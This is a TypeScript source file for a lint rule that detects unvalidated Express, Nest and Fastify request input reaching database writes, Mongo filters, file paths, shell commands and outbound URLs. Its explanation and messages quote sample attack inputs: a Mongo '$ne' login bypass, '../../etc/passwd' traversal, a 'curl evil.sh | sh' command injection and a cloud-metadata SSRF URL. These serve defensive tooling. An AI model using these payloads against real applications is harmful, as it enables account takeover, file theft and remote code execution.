import { Node, SyntaxKind, type CallExpression, type NewExpression } from 'ts-morph';
import type { FileFacts } from '../facts';
import { constructedRecordSink, filterValues, inputSinksOf, type InputSink } from '../facts/input-sinks';
import { inputPassedInto, mayReadRequestInput, requestInputReaching, type InputReach } from '../facts/request-input-flow';
import { literalPrefixOf } from '../facts/literals';
import { isCommandLineProgram } from '../facts/runtime';
import { unwrapExpression } from '../facts/syntax';
import { createRule } from './rule';

/** A URL whose fixed start names the host (`https://api.example.com/`): input after it stays on that host. */
const PINNED_ORIGIN = /^[a-z][a-z0-9+.-]*:\/\/[^/?#@]+[/?#]/i;

export const unvalidatedInput = createRule({
  meta: {
    id: 'unvalidated-input',
    title: 'Request input reaches a write, a filter, a path, a command or a URL unchecked',
    category: 'security',
    defaultSeverity: 'warning',
    cwe: [20, 915],
    summary: [
      'The caller decides what `req.body`, `req.query` and `req.params` hold, keys and types included.',
      'Unchecked, `{ "$ne": null }` as the email of a Mongo login filter matches the first user, a whole body saved as a record sets `isAdmin`, and `../` in a file name reads any file the server can.',
    ].join(' '),
    explanation: [
      'A request is whatever the caller sends, not what the client form sends. Without a schema check on the way:',
      '',
      '- **Mass assignment.** `prisma.user.update({ where: { id }, data: req.body })` stores every key the caller adds: `{"role": "admin"}`, `{"emailVerified": true}`, `{"balance": 1e9}`.',
      '- **Operator injection.** JSON and query strings (`?email[$ne]=`) carry objects. `User.findOne({ email: req.body.email, password: hash })` with `{"email": {"$ne": null}}` is "any user": a login as the first account, or `{"$regex": "^a"}` to enumerate them.',
      '- **Path traversal.** `fs.readFile(path.join(UPLOADS, req.params.name))` with `name = ../../etc/passwd` (or `../.env`) reads outside the folder; a write there replaces code.',
      '- **Command injection.** `` exec(`convert ${req.query.file} out.png`) `` with `file = x; curl evil.sh | sh` runs the caller\'s command.',
      '- **SSRF.** `fetch(req.query.url)` lets the caller make the server request `http://169.254.169.254/` (cloud credentials) or internal admin endpoints.',
    ].join('\n'),
    shortFix: [
      'Parse the input with a schema before using it (zod `schema.parse(req.body)`, joi, yup, class-validator DTOs under `ValidationPipe`, a Fastify route `schema`, express-validator or celebrate on the route).',
      'Write explicitly picked fields; `String(x)` a Mongo filter value; `path.basename` a file name; pass command arguments as an array; allow-list outbound hosts.',
    ].join('\n'),
    fix: [
      'Check the shape and type of the input once, where it enters:',
      '',
      '- zod: `const body = CreateUser.parse(req.body)` (unknown keys are stripped), then use `body`;',
      '- Nest: a DTO class with class-validator decorators and `app.useGlobalPipes(new ValidationPipe({ whitelist: true }))`;',
      '- Fastify: a route `schema` for `body`, `querystring` and `params`;',
      '- Express: express-validator or celebrate middleware on the route.',
      '',
      'And at the sink:',
      '- writes: name the fields you store (`data: { name: body.name }`), never the whole body;',
      '- Mongo filters: `String(req.body.email)`, Mongoose `sanitizeFilter: true`, or express-mongo-sanitize;',
      '- file paths: `path.basename(name)` and check the resolved path stays under the folder;',
      '- commands: `execFile(program, [arg])` with a fixed program, never a command line built from input;',
      '- URLs: a fixed origin (`https://api.example.com/items/${encodeURIComponent(id)}`) or an allow-list of hosts.',
    ].join('\n'),
    notFlagged: [
      'A single route or query parameter used as a lookup key in an ORM call (`findUnique({ where: { id: req.params.id } })`): the ORM binds it as a value.',
      'Picked fields in a write (`data: { name: req.body.name }`); route parameters in writes (they are strings from the path).',
      'Input checked on the way: a validator call on it or on its part of the request in the handler (zod, joi, yup, ajv, valibot, class-validator, express-validator `validationResult`), validator middleware or a Fastify `schema` on its route, a Nest DTO class with class-validator decorators or a pipe on the parameter.',
      'Values made numbers (`Number(x)`, `parseInt`) or, in Mongo filters, strings (`String(x)`, a template); file names through `path.basename`; URL parts through `encodeURIComponent` or after a fixed `https://host/`.',
      'Mongo filters in a package that uses express-mongo-sanitize or Mongoose `sanitizeFilter`; route parameters in Mongo filters (always strings).',
      'SQL text: `sql-injection` covers it.',
    ],
    examples: [
      {
        bad: ["app.post('/login', async (req, res) => {", '  const user = await User.findOne({ email: req.body.email });', '  res.json(user);', '});'].join('\n'),
        good: ["app.post('/login', async (req, res) => {", '  const user = await User.findOne({ email: String(req.body.email) });', '  res.json(user);', '});'].join('\n'),
      },
      {
        bad: ["router.patch('/me', async (req, res) => {", '  await prisma.user.update({ where: { id: req.user.id }, data: req.body });', '  res.sendStatus(204);', '});'].join('\n'),
        good: [
          'const Profile = z.object({ name: z.string().max(100), bio: z.string().max(500) });',
          '',
          "router.patch('/me', async (req, res) => {",
          '  await prisma.user.update({ where: { id: req.user.id }, data: Profile.parse(req.body) });',
          '  res.sendStatus(204);',
          '});',
        ].join('\n'),
      },
    ],
  },
  create(context) {
    if (isCommandLineProgram(context.sourceFile) || !mayReadRequestInput(context.facts)) return {};
    const facts = context.facts;
    return {
      [SyntaxKind.NewExpression]: (construct: NewExpression) => {
        const sink = constructedRecordSink(construct, facts);
        const reach = sink && uncheckedReach(sink, (node) => requestInputReaching(node, facts));
        if (sink && reach) context.report({ node: construct, message: messageFor(sink, reach), related: [{ node: reach.source, message: `the request input is read here (\`${describeRead(reach)}\`)` }] });
      },
      [SyntaxKind.CallExpression]: (call: CallExpression) => {
        for (const sink of inputSinksOf(call, facts)) {
          const reach = uncheckedReach(sink, (node) => requestInputReaching(node, facts));
          if (!reach) continue;
          context.report({
            node: call,
            message: messageFor(sink, reach),
            related: [{ node: reach.source, message: `the request input is read here (\`${describeRead(reach)}\`)` }],
          });
          return;
        }
        const through = sinkInCalledFunction(call, facts);
        if (through) {
          context.report({
            node: call,
            message: `\`${calleeName(call)}()\` passes request input on to a sink in ${relativeLocation(call, through.sink.call)}: ${messageFor(through.sink, through.reach)}`,
            related: through.reach.source.getSourceFile() === call.getSourceFile() ? [{ node: through.reach.source, message: `the request input is read here (\`${describeRead(through.reach)}\`)` }] : [],
          });
        }
      },
    };
  },
});

/** Calls in a project function's body at most, looked through for sinks: keeps a large function's question bounded. */
const MAX_CALLS_IN_CALLEE = 200;

/** A sink in a project function of another file that this call hands request input to (`updateUser(id, req.body)`). */
function sinkInCalledFunction(call: CallExpression, facts: FileFacts): { sink: InputSink; reach: InputReach } | undefined {
  for (const into of inputPassedInto(call, facts)) {
    const calleeFacts = facts.forFile(into.fn.getSourceFile());
    const calls = into.fn.getDescendantsOfKind(SyntaxKind.CallExpression).slice(0, MAX_CALLS_IN_CALLEE);
    for (const inner of calls) {
      for (const sink of inputSinksOf(inner, calleeFacts)) {
        const reach = uncheckedReach(sink, into.reachesOf);
        if (reach) return { sink, reach };
      }
    }
  }
  return undefined;
}

function calleeName(call: CallExpression): string {
  const callee = unwrapExpression(call.getExpression());
  return Node.isPropertyAccessExpression(callee) ? callee.getName() : callee.getText();
}

function relativeLocation(from: Node, to: Node): string {
  const fromDir = from.getSourceFile().getDirectoryPath();
  const path = to.getSourceFile().getFilePath();
  const relative = path.startsWith(fromDir + '/') ? path.slice(fromDir.length + 1) : path.split('/').slice(-3).join('/');
  return `${relative}:${to.getStartLineNumber()}`;
}

type Reaches = (node: Node) => InputReach[];

function uncheckedReach(sink: InputSink, reaches: Reaches): InputReach | undefined {
  for (const target of sink.targets) {
    const reach = reachAt(sink, target, reaches);
    if (reach) return reach;
  }
  return undefined;
}

function reachAt(sink: InputSink, target: Node, reaches: Reaches): InputReach | undefined {
  const unchecked = (node: Node) => reaches(node).filter((reach) => !reach.validated && !reach.safeFor.includes(sink.kind));
  switch (sink.kind) {
    case 'mass-assignment':
      return unchecked(target).find((reach) => reach.shape === 'object' && reach.part !== 'params');
    case 'mongo-filter':
      return filterValues(target)
        .flatMap(unchecked)
        .find((reach) => !reach.stringified && reach.part !== 'params');
    case 'outbound-url': {
      const leading = leadingPart(target, 0);
      return leading ? unchecked(leading)[0] : undefined;
    }
    default:
      return unchecked(target)[0];
  }
}

/**
 * The part of a URL that decides its origin: the whole value, or the first
 * interpolation of a template (`${base}/users/${id}`) whose fixed text before
 * it names no host yet. Undefined when the code fixes the origin: a literal
 * `https://host/` start, or a relative path (`/api/...`, which only a browser resolves).
 */
function leadingPart(target: Node, depth: number): Node | undefined {
  const node = unwrapExpression(target);
  if (depth > 4) return node;
  const prefix = literalPrefixOf(node);
  if (prefix !== undefined && (PINNED_ORIGIN.test(prefix) || prefix.startsWith('/'))) return undefined;
  if (Node.isStringLiteral(node) || Node.isNoSubstitutionTemplateLiteral(node)) return undefined;
  if (Node.isTemplateExpression(node)) {
    const first = node.getTemplateSpans()[0]!;
    // `https://${host}/...`: the host is the first value. `${base}/path`: the base decides.
    return leadingPart(first.getExpression(), depth + 1) === undefined && prefix === '' ? undefined : first.getExpression();
  }
  if (Node.isBinaryExpression(node) && node.getOperatorToken().getKind() === SyntaxKind.PlusToken) return leadingPart(node.getLeft(), depth + 1);
  if (Node.isIdentifier(node)) {
    const declaration = node.getSymbol()?.getValueDeclaration();
    const initializer = declaration && Node.isVariableDeclaration(declaration) ? declaration.getInitializer() : undefined;
    if (initializer) {
      const value = unwrapExpression(initializer);
      if (Node.isTemplateExpression(value) || Node.isStringLiteral(value) || Node.isNoSubstitutionTemplateLiteral(value) || Node.isBinaryExpression(value)) return leadingPart(value, depth + 1);
    }
  }
  return node;
}

function describeRead(reach: InputReach): string {
  const source = reach.source;
  if (Node.isParameterDeclaration(source)) return `${source.getDecorators()[0]?.getText() ?? ''} ${source.getName()}`.trim();
  return source.getText();
}

function messageFor(sink: InputSink, reach: InputReach): string {
  const input = `request input (\`${describeRead(reach)}\`)`;
  switch (sink.kind) {
    case 'mass-assignment':
      return `${sink.label} writes the whole ${input} unchecked: the caller can set any field (\`role\`, \`isAdmin\`, \`ownerId\`). Validate it with a schema and write picked fields.`;
    case 'mongo-filter':
      return `${sink.label} puts ${input} into a MongoDB filter unchecked: \`{"$ne": null}\` instead of a string matches every document (a login as the first user). Validate it, or \`String()\` it.`;
    case 'file-path':
      return `${sink.label} opens a path built from ${input} unchecked: \`../\` in it reaches any file the server can read or write. Validate it, \`path.basename()\` it, and check the resolved path stays in its folder.`;
    case 'shell':
      return `${sink.label} runs a command built from ${input} unchecked: \`; curl evil.sh | sh\` in it runs the caller's command. Use \`execFile\` with a fixed program and an argument array, and validate the input.`;
    case 'outbound-url':
      return `${sink.label} requests a URL the caller chooses, from ${input} unchecked: it can point the server at internal services or cloud metadata (\`http://169.254.169.254/\`). Use a fixed origin or an allow-list of hosts.`;
  }
}
